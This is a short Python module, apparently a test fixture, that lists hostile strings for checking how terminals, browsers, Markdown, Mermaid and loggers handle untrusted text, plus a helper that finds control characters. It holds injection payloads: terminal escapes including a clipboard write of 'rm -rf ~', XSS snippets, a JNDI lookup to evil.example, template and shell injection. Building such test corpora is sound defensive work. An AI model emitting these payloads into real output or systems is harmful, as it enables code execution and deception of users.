"""Texts of attackers: what terminals, browsers, Markdown, Mermaid, spreadsheets and loggers obey."""

from __future__ import annotations

import unicodedata

HOSTILE_TEXTS = {
    "clear the screen": "\x1b[2J\x1b[H",
    "window title": "\x1b]0;owned\x07",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "C1 control": "\x9b2J",
    "overwrite": "safe\rEVIL",
    "backspaces": "EVIL\x08\x08\x08\x08safe",
    "bidi override": "\u202etxt.exe\u202c",
    "bidi isolate": "\u2066admin\u2069",
    "invisible": "ad\u200bmin\ufeff\u2060",
    "line separator": "a\u2028b\u2029c",
    "tag characters": "\U000e0001\U000e0041",
    "script": "<script>alert(1)</script>",
    "end of a script": "</script><img src=x onerror=alert(1)>",
    "comment": "<!--<script>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "JNDI": "${jndi:ldap://evil.example/a}",
    "template": "{{constructor.constructor('alert(1)')()}}${7*7}#{7*7}",
    "backticks": "`rm -rf ~` ``` $(reboot)",
    "Mermaid": 'x"]; click a href "javascript:alert(1)"\n  b-->c %%{init: {}}%%',
    "Markdown": "](javascript:alert(1)) | x | [a](data:text/html,x)",
    "newlines": "a\nFROM: admin\r\n\r\nb",
    "quotes": '\'"\\"\\',
}
"""By what each text tries to do."""


def obeyed_characters(text: str) -> list[str]:
    """Return the characters that a terminal would obey: controls, and what changes direction or hides."""
    return [
        character
        for character in text
        if character not in "\n\t" and unicodedata.category(character) in {"Cc", "Cf", "Zl", "Zp", "Cs"}
    ]
